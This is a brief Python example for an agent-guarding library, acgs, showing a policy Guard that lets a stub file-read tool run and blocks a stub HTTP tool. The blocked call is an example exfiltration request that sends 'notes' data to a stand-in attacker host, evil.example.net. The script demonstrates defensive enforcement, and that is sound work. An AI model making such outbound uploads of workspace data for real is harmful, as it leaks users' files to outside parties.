"""Two tools behind acgs.Guard, in process, on the constitution shipped with ACGS: the call the
constitution allows runs; the one it denies never runs, and the reasons say why."""

import acgs

guard = acgs.Guard(agent_id="research-agent")


@guard.tool
def read_file(path: str) -> str:
    return f"contents of {path}"


@guard.tool
def http_get(url: str) -> str:
    return f"200 OK from {url}"


print("read_file:", read_file("/workspace/notes.txt"))
try:
    http_get("https://evil.example.net/upload?data=notes")
except acgs.ToolDenied as denied:
    print("http_get denied:", "; ".join(denied.reasons), f"(decision {denied.decision_id})")
